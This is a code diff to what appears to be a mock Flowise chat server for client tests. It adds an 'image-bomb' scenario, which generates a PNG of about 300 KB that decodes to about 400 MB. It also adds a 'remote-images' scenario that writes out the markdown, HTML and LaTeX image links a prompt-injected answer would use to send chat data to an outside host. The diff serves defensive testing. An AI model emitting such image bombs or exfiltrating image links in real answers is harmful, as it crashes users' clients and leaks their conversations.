@@ -8,6 +8,7 @@ recorded so tests can assert what the server received.
 from __future__ import annotations
 
 import base64
+import functools
 import io
 import json
 import random
@@ -16,6 +17,7 @@ import socket
 import struct
 import threading
 import time
+import zlib
 from collections.abc import Callable
 from dataclasses import dataclass, field
 from email.parser import BytesParser
@@ -866,7 +868,7 @@ def _message(flow_id: str, chat_id: str, role: str, content: str, **fields: Any)
 
 
 def _answer(h: _Handler, flow_id: str, body: dict, streaming: bool, text: str, question: str,
-            uploads: list[dict[str, Any]] | None, **extra: Any) -> None:
+            uploads: list[dict[str, Any]] | None, chunk_size: int = 7, **extra: Any) -> None:
     """Streams (or returns as JSON) ``text`` and ``extra`` events, and keeps the exchange as history."""
     chat_id = str(body.get("chatId", ""))
     history = h.wire.history.setdefault((flow_id, chat_id), [])
@@ -879,7 +881,7 @@ def _answer(h: _Handler, flow_id: str, body: dict, streaming: bool, text: str, q
         return
     events = frame("start", "") + b"".join(frame("token", word) for word in re.findall(r"\S+\s*", text))
     events += b"".join(frame(name, value) for name, value in extra.items())
-    h._stream(events + frame("metadata", meta) + frame("end", "[DONE]"))
+    h._stream(events + frame("metadata", meta) + frame("end", "[DONE]"), chunk_size)
 
 
 # A reasoning model behind an agentflow's LLM node: its thoughts stream first, as `thinking` events.
@@ -988,6 +990,54 @@ def _artifacts(h: _Handler, body: dict, streaming: bool) -> None:
             artifacts=artifacts, fileAnnotations=annotations)
 
 
+# -- Images (security): image bombs and images that would load from other hosts -------------------
+
+
+@functools.cache
+def bomb_png(width: int = 10_000, height: int = 10_000) -> bytes:
+    """A black PNG of ``width`` × ``height``: about 300 KB for the default 100 million pixels, about
+    400 MB once decoded. Compressed row by row, so that making it never holds the pixels."""
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    compressor, row = zlib.compressobj(9), b"\0" * (1 + 3 * width)  # each row: filter type 0, black pixels
+    parts = [compressor.compress(row * 100) for _ in range(height // 100)]
+    parts += [compressor.compress(row * (height % 100)), compressor.flush()]
+    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"".join(parts)) + chunk(b"IEND", b"")
+
+
+def _image_bomb(h: _Handler, body: dict, streaming: bool) -> None:
+    """An answer whose artifacts are the bomb, as a file Flowise stored and as a data URL, and a
+    picture within the budget but wider than the page."""
+    flow_id, chat_id = h.path.rsplit("/", 1)[1], str(body.get("chatId", ""))
+    h.wire.stored[(flow_id, chat_id, "bomb.png")] = ("image/png", bomb_png())
+    h.wire.stored[(flow_id, chat_id, "poster.png")] = ("image/png", bomb_png(2000, 1200))
+    artifacts = [{"type": "png", "data": "FILE-STORAGE::bomb.png"},
+                 {"type": "png", "data": "data:image/png;base64," + base64.b64encode(bomb_png()).decode()},
+                 {"type": "png", "data": "FILE-STORAGE::poster.png"}]
+    # In large chunks: seven bytes at a time, the data URL alone would take minutes on a slow wire.
+    _answer(h, flow_id, body, streaming, "Here is the picture.", str(body.get("question", "")), None,
+            chunk_size=65536, artifacts=artifacts)
+
+
+def remote_images_answer(base: str) -> str:
+    """What a prompt-injected answer writes to have the reader's browser send ``base`` the chat: images
+    inline (with and without alt text), by reference, as HTML and in LaTeX."""
+    return (
+        f"Here is your summary. ![]({base}/tracker.png?d=secret) ![logo]({base}/inline.png?d=secret)\n\n"
+        f"A chart: ![chart][r]\n\n<img src=\"{base}/html.png?d=secret\">\n\n"
+        f"$\\includegraphics{{{base}/latex.png}}$\n\n[r]: {base}/reference.png?d=secret\n"
+    )
+
+
+def _remote_images(h: _Handler, body: dict, streaming: bool) -> None:
+    """The question is the address the answer's images point at (what an injected prompt would choose)."""
+    base = str(body.get("question", "")).strip()
+    artifacts = [{"type": "png", "data": f"{base}/artifact.png?d=secret"}]
+    _answer(h, "remote-images", body, streaming, remote_images_answer(base), base, None, artifacts=artifacts)
+
+
 _SCENARIOS: dict[str, Callable[[_Handler, dict, bool], None]] = {
     "plain": _replay("plain.stream.sse", "plain.json"),
     "rag": _replay("rag.stream.sse", "rag.json"),
@@ -1030,6 +1080,8 @@ _SCENARIOS: dict[str, Callable[[_Handler, dict, bool], None]] = {
     "voice": _uploads_echo,
     "images-flowise-1.5": _uploads_echo,
     "artifacts": _artifacts,
+    "image-bomb": _image_bomb,
+    "remote-images": _remote_images,
 }
 
 
